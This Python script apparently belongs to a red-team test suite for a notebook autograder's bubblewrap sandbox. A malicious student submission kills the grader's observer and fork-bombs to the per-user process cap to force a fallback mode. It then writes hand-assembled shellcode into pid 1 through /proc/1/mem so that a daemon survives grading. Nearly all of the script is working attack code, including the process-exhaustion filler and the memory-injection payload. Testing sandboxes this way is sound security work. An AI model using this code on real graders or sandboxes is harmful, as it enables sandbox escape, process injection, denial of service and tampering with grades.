"""a05: make the documented residual reachable: "a kernel [or observer] that bwrap starts directly (when the template
cannot) has no guardian". As an ordinary user (uid 65001 here: another session on this machine grades as 65534, and this attack takes the per-user process cap) the sandboxes share the host user's process count with the grader.
1. The student's training_memory, run by the observer's child, kills the observer (same user, same PID namespace):
   check 1 is lost and the grader starts a NEW observer at the next check.
2. Before that next check, a solution cell starts a daemon in the kernel that forks (exec /bin/sleep) until the
   process cap (EAGAIN), then frees F slots and holds the rest 6 s: the observer's launcher (its own
   RLIMIT_NPROC) cannot build the template's sandbox (placeholder, template child, observer) but can still start
   bwrap's own observer (fewer processes): `sandbox: no observer from the warm template ...; starting one in bwrap`.
   F is swept 3, 5, 6, 4 over the next solution cells (each waits for the previous filler to end).
3. The student's function, in the new observer's child, looks at /proc/2/cmdline: the template's placeholder means
   template mode (kill that observer too, try again at the next F); otherwise (bwrap's fallback, no guardian) it
   runs round 10's payload (tests/attacks/round10/user/a07): writes prctl(PR_SET_PDEATHSIG, 0) + execve(python
   /tmp/p1.py) into pid 1 (bwrap's init) through /proc/1/mem, wakes it by killing pid 2, and the new pid 1 forks a
   daemon "r16-survivor" that sleeps 300 s.
After the grading command returns, `ps -u <that uid>` on the host shows whether anything of the sandbox lives on.
Honest control after it; survivors are then killed by pid."""
import os, sys, json, subprocess, time
os.environ.setdefault("ATTACK_UID", "65001")  # see u16.UID: the filler takes the whole per-user process cap
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u16

COMMON = r'''
def _in_observer_child():
    import sys
    o = sys.modules.get("probes.observer")
    return o is not None and o.ACTIVE and not o.trusted()

def _obs(tag):
    import os, sys, struct, time, signal
    if not _in_observer_child():
        return "kernel"
    try:
        p2 = open("/proc/2/cmdline", "rb").read()
    except OSError:
        p2 = b""
    if b"signal.pause" in p2:
        os.kill(os.getppid(), signal.SIGKILL)        # template mode: end this observer, a new one starts at the next check
        raise ValueError(f"{tag}: template observer, killed it")
    if os.path.exists("/tmp/p1.py"):              # injected at an earlier call: wake pid 1 (its child, the observer, ends)
        os.kill(2, signal.SIGKILL)
        raise ValueError(f"{tag}: fallback observer, woke pid 1")
    open("/tmp/p1.py", "w").write("""
import os, time, ctypes
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.closerange(3, 1280)
    libc.prctl(15, b"r16-survivor", 0, 0, 0)
    time.sleep(300)
    os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        time.sleep(0.5)
""")
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    exe = sys.executable.encode() + bytes(1); script = b"/tmp/p1.py" + bytes(1)
    base = pc + 48
    path_a = base; script_a = base + len(exe); argv_a = (script_a + len(script) + 7) & ~7
    code = (bytes.fromhex("bf01000000") + bytes.fromhex("31f6") + bytes.fromhex("b89d000000") + bytes.fromhex("0f05")
            + bytes.fromhex("48bf") + struct.pack("<Q", path_a) + bytes.fromhex("48be") + struct.pack("<Q", argv_a)
            + bytes.fromhex("31d2") + bytes.fromhex("b83b000000") + bytes.fromhex("0f05") + bytes.fromhex("ebfe")).ljust(48, bytes.fromhex("90"))
    blob = code + exe + script
    blob = blob.ljust(argv_a - pc, bytes(1)) + struct.pack("<QQQ", path_a, script_a, 0)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    n = os.pwrite(fd, blob, pc)
    os.close(fd)
    raise ValueError(f"{tag}: FALLBACK observer (no placeholder; pid 1 {open('/proc/1/cmdline', 'rb').read()[-60:]!r}): "
                     f"wrote {n} bytes into pid 1 at {pc:#x}; the next call wakes it")

def _fill(free, hold=6):
    """A daemon that forks /bin/sleep up to the process cap, frees `free` slots, holds `hold` s, then ends all."""
    import os, time, signal
    t0 = time.time()
    while os.path.exists("/tmp/fill.busy"):
        time.sleep(0.5)
    waited = time.time() - t0
    open("/tmp/fill.busy", "w").close()
    d = os.fork()
    if d == 0:
        os.setsid()
        kids = []
        try:
            while True:
                try:
                    p = os.fork()
                except OSError:
                    break
                if p == 0:
                    try:
                        os.execv("/bin/sleep", ["sleep", str(hold + 30)])
                    finally:
                        os._exit(0)
                kids.append(p)
            for p in kids[-free:] if free else []:
                os.kill(p, signal.SIGKILL); os.waitpid(p, 0)
            kids = kids[:-free] if free else kids
            open("/tmp/fill.log", "a").write(f"free={free}: held {len(kids)} processes at {time.time():.1f}\n")
            time.sleep(hold)
        finally:
            for p in kids:
                try:
                    os.kill(p, signal.SIGKILL); os.waitpid(p, 0)
                except OSError:
                    pass
            os.unlink("/tmp/fill.busy")
            os._exit(0)
    polls = 0
    for polls in range(240):  # until this fill holds the cap (forking 200+ processes takes a while under load)
        time.sleep(0.25)
        if os.path.exists("/tmp/fill.log") and f"free={free}:" in open("/tmp/fill.log").read():
            break
    log = open("/tmp/fill.log").read() if os.path.exists("/tmp/fill.log") else "no fill log"
    return f"fill({free}): waited {waited:.1f} s for the previous fill, daemon {d}, {polls} polls, now {time.time():.1f}\n{log}"
'''
TM = COMMON + '''
def training_memory(model, optimizer):
    _obs("training_memory")
    return {"weights": 0, "gradients": 0, "optimizer_state": 0, "total": 0}
'''
PDM = '''
STRATEGIES = ("ddp", "pipeline", "zero1", "zero2", "zero3", "fsdp")
def per_device_memory(num_params, num_devices, strategy, weight_bytes=2, grad_bytes=2, state_bytes=12):
    _obs("per_device_memory")
    return {}
print(_fill(3))
'''
PL = '''
def partition_layers(costs, k):
    _obs("partition_layers")
    return [list(range(len(costs)))]
print(_fill(5))
'''
SM = '''
def split_model(model, cut):
    _obs("split_model")
    return model[:cut], model[cut:]
print(_fill(6))
'''
TS = '''
def two_stage_step(stage, batch, target, loss_fn, activation_shape):
    _obs("two_stage_step")
    raise NotImplementedError
print(_fill(4))
'''
def pauses(nb):
    """A cell of the student's own after each test cell: 9 s for the filler to let go before the next check."""
    out = []
    for c in nb.cells:
        out.append(c)
        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
            out.append(u16.nbformat.v4.new_code_cell("import time; time.sleep(9)"))
    nb.cells = out

nb = u16.notebook("ps1_memory", overrides={"training_memory": TM, "per_device_memory": PDM, "partition_layers": PL,
                                           "split_model": SM, "two_stage_step": TS}, mutate=pauses)
before = set(subprocess.run(["pgrep", "-u", str(u16.UID)], capture_output=True, text=True).stdout.split())
dest = u16.course("a05", {("mallory", "ps1_memory"): nb, ("zz_honest", "ps1_memory"): u16.honest("ps1_memory")})
p = u16.grade(dest, env=u16.CANARY_ENV)
print("sandbox lines of the grader's stderr:")
for line in p.stderr.splitlines():
    if "template" in line or "bwrap" in line or "sandbox" in line:
        print("   ", line[:300])
u16.scores(dest)
u16.cell_outputs(dest, "mallory", "ps1_memory", ("per_device_memory", "partition_layers", "split_model", "two_stage_step",
                                                 "training_memory_counts_tensors", "per_device_memory_formulas",
                                                 "per_device_memory_bad_input", "partition_layers_optimal",
                                                 "partition_layers_bad_input", "split_model_stages",
                                                 "two_stage_step_matches_whole_model"))
for o in json.load(open(f"{dest}/grading_report.json")):
    print("REPORT", o["student"], o["status"], "|", repr(o.get("reason", ""))[:200])
time.sleep(3)
ps = subprocess.run(f"ps -u {u16.UID} -o pid,ppid,etimes,comm,args --no-headers", shell=True, capture_output=True, text=True).stdout
left = [l for l in ps.splitlines() if l.split()[0] not in before]
print(f"after the grading command returned: {len(left)} process(es) of uid {u16.UID} that were not there before:")
for l in left:
    print("   ", l[:200])
for l in left:
    try:
        os.kill(int(l.split()[0]), 9)
    except OSError:
        pass
u16.cleanup(dest)
